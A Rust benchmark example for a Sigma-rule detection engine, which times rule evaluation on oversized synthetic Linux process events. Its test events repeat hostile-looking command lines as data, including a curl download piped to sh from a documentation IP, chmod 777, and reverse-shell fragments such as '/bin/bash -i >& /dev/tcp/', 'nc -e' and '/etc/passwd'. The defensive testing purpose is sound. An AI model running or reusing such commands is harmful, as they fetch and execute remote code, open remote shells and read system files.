//! What the worst event costs that we know to make: a command line of 1 MB and 10,000 values of environment, against the rules of a
//! folder. Says the time and what was cut: `cargo run --release --example adversarial -- [--json] RULES`.

use std::path::Path;
use std::time::Instant;

use serde_json::{json, Value as Json};
use watertight_content::sigma::{load_dir, JsonEvent, Slots};
use watertight_engine::{Image, LogSource, Scratch};

/// Of each event, after one that warms up.
const ROUNDS: usize = 21;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let (options, args): (Vec<String>, Vec<String>) = std::env::args().skip(1).partition(|arg| arg == "--json");
    let (is_json, rules) = (!options.is_empty(), args.first().ok_or("name a folder with rules")?);
    let mut library = load_dir(Path::new(rules));
    let image = library.image()?;
    let image = Image::open(&image)?;
    eprintln!("{} rules, {} refused", image.rules().len(), library.rejections.len());
    let plan = image.plan(&LogSource { category: Some("process_creation"), product: Some("linux"), service: None });
    let slots = Slots::of(&image);
    let mut scratch = Scratch::new();
    eprintln!("{} rules apply", plan.len());
    for (name, event) in events() {
        let event = JsonEvent::new(&event, &slots);
        let mut times_us = Vec::new();
        let (mut limits, mut hits) = Default::default();
        for _ in 0..ROUNDS {
            hits = 0;
            let begin = Instant::now();
            limits = plan.evaluate(&event, &mut scratch, &mut |_| hits += 1);
            times_us.push(begin.elapsed().as_micros());
        }
        times_us.remove(0);
        times_us.sort_unstable();
        let (median, worst) = (times_us[times_us.len() / 2], times_us[times_us.len() - 1]);
        if is_json {
            let cut = limits.cut_values + limits.undecided_rules;
            println!("{}", json!({"name": name, "us": median, "cut": cut}));
        } else {
            println!("{name:<28} median {median:>6} us, worst {worst:>6} us, {hits} hits, {limits:?}");
        }
    }
    Ok(())
}

fn events() -> Vec<(&'static str, Json)> {
    let environment: Vec<String> =
        (0..10_000).map(|number| format!("VARIABLE_{number}=/usr/bin:/bin {number}")).collect();
    let event =
        |line: String| json!({ "Image": "/bin/sh", "CommandLine": line, "Environment": environment, "User": "root" });
    vec![
        ("one letter", event("a".repeat(1 << 20))),
        ("words", event("curl -s http://198.51.100.7/a | sh -c 'chmod 777 /tmp/x' ; ".repeat((1 << 20) / 60))),
        (
            "almost every literal",
            event("/bin/bash -i >& /dev/tcp/ base64 -d wget nc -e /etc/passwd ; ".repeat((1 << 20) / 60)),
        ),
        ("letters beyond ASCII", event("ſK\u{212a}é".repeat((1 << 20) / 8))),
        ("long expression input", event("aaaaaaaaaaaaaaaaaaaaaaaa! ".repeat((1 << 20) / 26))),
    ]
}
